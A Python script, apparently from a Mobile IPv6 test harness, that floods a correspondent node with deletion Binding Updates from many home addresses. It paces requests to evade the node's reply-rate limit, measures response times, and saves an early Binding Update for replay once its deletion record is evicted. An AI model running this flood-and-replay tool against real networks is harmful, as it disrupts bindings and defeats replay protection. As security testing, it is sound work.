#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Many deletions at a correspondent, each from its own home address, as
an attacker holding a prefix can make them (RFC 6275 5.2.8 makes the
correspondent remember each one's sequence number):

  ro_flood.py --cn N --prefix P --count K --coa C --ifname I [--seq Q]
              [--rate R] [--window W]

For i in 1..K, home address P + i (one of this node's addresses): HoTI
and HoT, then a BU from C with a Home Address option, lifetime 0,
Kbm = SHA1(home keygen token) and the authenticator over the home
address (5.2.5, 6.2.7). The BA, which comes through a type 2 routing
header this node need not understand, is watched on interface I (a
packet socket).

The exchanges overlap: up to W (16) home addresses are in flight at
once, and HoTIs leave at R (150) per second, under the correspondent's
reply-rate (200 a second) so that none of them meets its limit. One raw
Mobility Header socket sends every HoTI (its source set per message,
IPV6_PKTINFO; the kernel sums it) and reads every HoT (each cookie names
its home address); the BUs are whole packets built here, without scapy,
sent through one IPPROTO_RAW socket. A BU's time is from its sending to
its BA. Prints
  "deletions K answered A; BU->BA ms: first 50 median X, last 50 median Y"
and, with --dump PREFIX, writes the BUs of an early and the last home
address (P + K - 100, or P + 1 for fewer, and P + K) to PREFIX.early
and PREFIX.last: 100 deletions after it, the early one's tomb is gone
(with max-deleted-bindings 16) while its nonce index, at most a few
seconds old, is still good (RFC 6275 5.2.7: 240 s).
"""
import argparse
import hashlib
import ipaddress
import os
import select
import socket
import statistics
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from ro_dereg import authenticator  # noqa: E402
from mip6_bu import csum, pad  # noqa: E402

MH = 135
ETH_P_IPV6 = 0x86DD
HOTI_WAIT = 0.5     # s before a HoTI is sent again
HOTI_TRIES = 20
BA_WAIT = 2.0       # s before a BU counts as unanswered


def bu_bytes(h, c, n, seq, hni, kbm):
    """The whole IPv6 packet of a deletion BU from care-of address c to
    correspondent n with a Home Address option h (addresses as 16 bytes):
    what ro_dereg.bu_packet() builds with scapy, lifetime 0."""
    mh = bytearray(struct.pack("!BBBBHHHH", 59, 0, 5, 0, 0, seq, 0x8000, 0))
    pad(mh, 8, 2)                                            # 6.2.6: 2n
    mh += bytes([4, 4]) + struct.pack("!HH", hni, 0)
    pad(mh, 8, 2)                                            # 6.2.7: 8n+2
    mh += bytes([5, 12])
    off = len(mh)
    mh += bytes(12)
    mh[1] = len(mh) // 8 - 1
    # 6.2.7: a deletion's authenticator has the home address in place
    # of the care-of address
    mh[off:off + 12] = authenticator(kbm, h, n, mh, off)
    # 6.1.1: pseudo-header with the home address as source
    pseudo = h + n + struct.pack("!I", len(mh)) + bytes(3) + bytes([MH])
    mh[4:6] = struct.pack("!H", csum(pseudo + bytes(mh)))
    # Destination Options: PadN (4 octets), then the Home Address option
    # at 8n+6 (6.3); 24 octets, Hdr Ext Len 2
    dst = bytes([MH, 2, 1, 2, 0, 0, 201, 16]) + h
    ip = struct.pack("!IHBB", 0x60000000, len(dst) + len(mh), 60, 64)
    return ip + c + n + dst + bytes(mh)


def ba_seq(frame, hoa):
    """The sequence number of a BA to hoa (through RH2) in an Ethernet
    frame, or None."""
    ip = frame[14:]
    if len(ip) < 40 or ip[6] != 43:
        return None
    rh = ip[40:]
    if len(rh) < 24 or rh[2] != 2 or (hoa is not None and rh[8:24] != hoa):
        return None
    off = 40 + (rh[1] + 1) * 8
    m = ip[off:]
    if rh[0] != MH or len(m) < 12 or m[2] != 6:
        return None
    return int.from_bytes(m[8:10], "big")


def main():
    p = argparse.ArgumentParser()
    for k in ("cn", "prefix", "coa", "ifname", "dump"):
        p.add_argument("--" + k)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--seq", type=int, default=100)
    p.add_argument("--rate", type=float, default=150.0)
    p.add_argument("--window", type=int, default=16)
    a = p.parse_args()
    base = int(ipaddress.IPv6Address(a.prefix))
    cn = socket.inet_pton(socket.AF_INET6, a.cn)
    coa = socket.inet_pton(socket.AF_INET6, a.coa)

    ps = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                       socket.htons(ETH_P_IPV6))
    ps.bind((a.ifname, ETH_P_IPV6))
    ms = socket.socket(socket.AF_INET6, socket.SOCK_RAW, MH)
    ms.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
    rs = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send_hoti(st):
        st["cookie"] = os.urandom(8)
        st["tries"] += 1
        st["t"] = time.monotonic()
        info = st["hoa"] + struct.pack("@I", 0)
        ms.sendmsg([struct.pack("!BBBBHH", 59, 1, 1, 0, 0, 0) + st["cookie"]],
                   [(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, info)],
                   0, (a.cn, 0))
        by_cookie[st["cookie"]] = st

    lat = []
    by_cookie = {}      # HoTI cookie -> state, while the HoT is awaited
    by_hoa = {}         # home address -> state, every one in flight
    nxt = 1
    gap = 1.0 / a.rate
    t_next = time.monotonic()
    while nxt <= a.count or by_hoa:
        now = time.monotonic()
        # a new home address, or a HoTI again, at the pace
        if now >= t_next:
            st = None
            for s in by_hoa.values():
                if "bu_t" not in s and now - s["t"] > HOTI_WAIT:
                    st = s
                    break
            if st is not None:
                by_cookie.pop(st["cookie"], None)
                if st["tries"] >= HOTI_TRIES:
                    del by_hoa[st["hoa"]]
                    st = None
            elif nxt <= a.count and len(by_hoa) < a.window:
                h = socket.inet_pton(socket.AF_INET6,
                                     str(ipaddress.IPv6Address(base + nxt)))
                st = {"hoa": h, "tries": 0, "i": nxt}
                nxt += 1
                by_hoa[h] = st
            if st is not None:
                send_hoti(st)
                t_next = max(t_next + gap, now - 0.2)
        for h in [h for h, s in by_hoa.items()
                  if "bu_t" in s and now - s["bu_t"] > BA_WAIT]:
            del by_hoa[h]
        wait = max(0.0, min(t_next - time.monotonic(), 0.05))
        r, _, _ = select.select([ms, ps], [], [], wait)
        if ms in r:
            m = ms.recv(2048)
            st = by_cookie.pop(bytes(m[8:16]), None) \
                if len(m) >= 24 and m[2] == 3 else None
            if st is not None:
                hni = int.from_bytes(m[6:8], "big")
                kbm = hashlib.sha1(bytes(m[16:24])).digest()
                pkt = bu_bytes(st["hoa"], coa, cn, a.seq, hni, kbm)
                # an early and the last home address's, whatever order
                # the exchanges end in
                name = {max(1, a.count - 100): "early",
                        a.count: "last"}.get(st["i"])
                if a.dump and name:
                    with open("%s.%s" % (a.dump, name), "wb") as f:
                        f.write(pkt)
                st["bu_t"] = time.monotonic()
                rs.sendto(pkt, (a.cn, 0))
        if ps in r:
            fr = ps.recv(4096)
            if ba_seq(fr, None) == a.seq:
                st = by_hoa.get(bytes(fr[14 + 48:14 + 64]))
                if st is not None and "bu_t" in st:
                    lat.append((time.monotonic() - st["bu_t"]) * 1000)
                    del by_hoa[st["hoa"]]
    ps.close()
    ms.close()
    rs.close()
    if len(lat) < 2:
        print("deletions %d answered %d" % (a.count, len(lat)))
        return 1
    k = min(50, len(lat) // 2)
    print("deletions %d answered %d; BU->BA ms: first %d median %.1f, last %d median %.1f"
          % (a.count, len(lat), k, statistics.median(lat[:k]), k,
             statistics.median(lat[-k:])))
    return 0


if __name__ == "__main__":
    sys.exit(main())
